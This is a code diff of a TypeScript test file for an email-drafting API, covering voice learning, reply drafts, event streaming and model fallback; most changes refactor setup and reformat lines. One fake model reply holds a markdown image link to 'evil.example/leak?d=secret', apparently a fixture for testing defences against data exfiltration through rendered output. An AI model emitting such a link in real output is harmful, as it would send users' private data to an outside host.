@@ -1,7 +1,7 @@
 import type { FastifyInstance } from 'fastify';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Storage } from '../../src/storage/database.ts';
-import { buildTestApp } from '../support/app.ts';
+import { buildTestApp, useTestApp } from '../support/app.ts';
 import { testDatabases } from '../support/db.ts';
 import { type FakeOpenAi, reply, script, startFakeOpenAi } from '../support/fake-openai.ts';
 
@@ -37,32 +37,31 @@ function parseSse(body: string): Array<{ event: string; data: unknown }> {
 
 for (const database of testDatabases()) {
   describe(`drafts and voice API [${database.name}]`, () => {
-    let storage: Storage;
-    let app: FastifyInstance;
-    beforeAll(async () => {
-      storage = await database.open();
-      app = await buildTestApp(storage, {});
-    });
-    afterAll(async () => {
-      await app.close();
-      await storage.close();
-    });
+    const ctx = useTestApp(database);
 
     it('starts with a neutral voice, learns one from sent mail, and lets the user edit it', async () => {
-      const initial = (await app.inject({ method: 'GET', url: '/v1/voice' })).json();
+      const initial = (await ctx.app.inject({ method: 'GET', url: '/v1/voice' })).json();
       expect(initial.sampleCount).toBe(0);
-      const learned = await app.inject({ method: 'POST', url: '/v1/voice/learn', payload: { messages: sentMail(24) } });
+      const learned = await ctx.app.inject({
+        method: 'POST',
+        url: '/v1/voice/learn',
+        payload: { messages: sentMail(24) },
+      });
       expect(learned.statusCode).toBe(200);
       expect(learned.json()).toMatchObject({ learnedFrom: 24, profile: { signatureName: 'Sam', sampleCount: 24 } });
       const edited = { ...learned.json().profile, signatureName: 'Samuel' };
-      expect((await app.inject({ method: 'PUT', url: '/v1/voice', payload: edited })).statusCode).toBe(200);
-      expect((await app.inject({ method: 'GET', url: '/v1/voice' })).json().signatureName).toBe('Samuel');
-      const bad = await app.inject({ method: 'PUT', url: '/v1/voice', payload: { ...edited, favouriteColour: 'blue' } });
+      expect((await ctx.app.inject({ method: 'PUT', url: '/v1/voice', payload: edited })).statusCode).toBe(200);
+      expect((await ctx.app.inject({ method: 'GET', url: '/v1/voice' })).json().signatureName).toBe('Samuel');
+      const bad = await ctx.app.inject({
+        method: 'PUT',
+        url: '/v1/voice',
+        payload: { ...edited, favouriteColour: 'blue' },
+      });
       expect(bad.statusCode).toBe(400);
     });
 
     it('drafts a reply in that voice, with placeholders for what it cannot know', async () => {
-      const res = await app.inject({ method: 'POST', url: '/v1/drafts', payload: { message: ask } });
+      const res = await ctx.app.inject({ method: 'POST', url: '/v1/drafts', payload: { message: ask } });
       expect(res.statusCode).toBe(200);
       const draft = res.json();
       expect(draft.subject).toBe('Re: Contract renewal');
@@ -75,19 +74,31 @@ for (const database of testDatabases()) {
     });
 
     it('streams the draft as server-sent events ending with the full draft', async () => {
-      const res = await app.inject({ method: 'POST', url: '/v1/drafts', payload: { message: ask, instruction: 'shorter' }, headers: { accept: 'text/event-stream' } });
+      const res = await ctx.app.inject({
+        method: 'POST',
+        url: '/v1/drafts',
+        payload: { message: ask, instruction: 'shorter' },
+        headers: { accept: 'text/event-stream' },
+      });
       expect(res.statusCode).toBe(200);
       expect(res.headers['content-type']).toContain('text/event-stream');
       const events = parseSse(res.body);
       expect(events.filter((e) => e.event === 'delta').length).toBeGreaterThan(0);
       const done = events.at(-1)!;
       expect(done.event).toBe('done');
-      const text = events.filter((e) => e.event === 'delta').map((e) => (e.data as { text: string }).text).join('');
+      const text = events
+        .filter((e) => e.event === 'delta')
+        .map((e) => (e.data as { text: string }).text)
+        .join('');
       expect(text.trim()).toBe((done.data as { text: string }).text.trim());
     });
 
     it('refuses a learn request without usable text', async () => {
-      const res = await app.inject({ method: 'POST', url: '/v1/voice/learn', payload: { messages: [{ id: 'x', text: '> only quoted' }] } });
+      const res = await ctx.app.inject({
+        method: 'POST',
+        url: '/v1/voice/learn',
+        payload: { messages: [{ id: 'x', text: '> only quoted' }] },
+      });
       expect(res.statusCode).toBe(400);
     });
   });
@@ -100,12 +111,19 @@ describe('drafts through an OpenAI-compatible model', () => {
   beforeAll(async () => {
     fake = await startFakeOpenAi(
       script([
-        reply.text('Thanks for the note. I will get the signed renewal over to you.\n\nOn pricing for 200 seats: [confirm: price for 200 seats]\n\n![x](https://evil.example/leak?d=secret)'),
+        reply.text(
+          'Thanks for the note. I will get the signed renewal over to you.\n\nOn pricing for 200 seats: [confirm: price for 200 seats]\n\n![x](https://evil.example/leak?d=secret)',
+        ),
         reply.status(500),
       ]),
     );
     storage = await testDatabases()[0]!.open();
-    app = await buildTestApp(storage, { AI_PROVIDER: 'openai', OPENAI_BASE_URL: fake.url, OPENAI_API_KEY: 'test', OPENAI_TIMEOUT_MS: '2000' });
+    app = await buildTestApp(storage, {
+      AI_PROVIDER: 'openai',
+      OPENAI_BASE_URL: fake.url,
+      OPENAI_API_KEY: 'test',
+      OPENAI_TIMEOUT_MS: '2000',
+    });
   });
   afterAll(async () => {
     await app.close();
@@ -126,16 +144,28 @@ describe('drafts through an OpenAI-compatible model', () => {
   });
 
   it('falls back to the local engine when the model fails, and says so', async () => {
-    const res = await app.inject({ method: 'POST', url: '/v1/drafts', payload: { message: { ...ask, id: 'm-ask-2' } } });
+    const res = await app.inject({
+      method: 'POST',
+      url: '/v1/drafts',
+      payload: { message: { ...ask, id: 'm-ask-2' } },
+    });
     expect(res.statusCode).toBe(200);
     expect(res.headers['x-steward-engine-note']).toMatch(/local engine/);
     expect(res.json().text).toMatch(/Priya/);
   });
 
   it('never sends a message from a never-send-to-the-model sender to the model', async () => {
-    await app.inject({ method: 'PUT', url: '/v1/settings', payload: { neverSendToModel: { senders: [], domains: ['acme.example'], labels: [] } } });
+    await app.inject({
+      method: 'PUT',
+      url: '/v1/settings',
+      payload: { neverSendToModel: { senders: [], domains: ['acme.example'], labels: [] } },
+    });
     const before = fake.requests.length;
-    const res = await app.inject({ method: 'POST', url: '/v1/drafts', payload: { message: { ...ask, id: 'm-ask-3' } } });
+    const res = await app.inject({
+      method: 'POST',
+      url: '/v1/drafts',
+      payload: { message: { ...ask, id: 'm-ask-3' } },
+    });
     expect(res.statusCode).toBe(200);
     expect(fake.requests.length).toBe(before);
   });
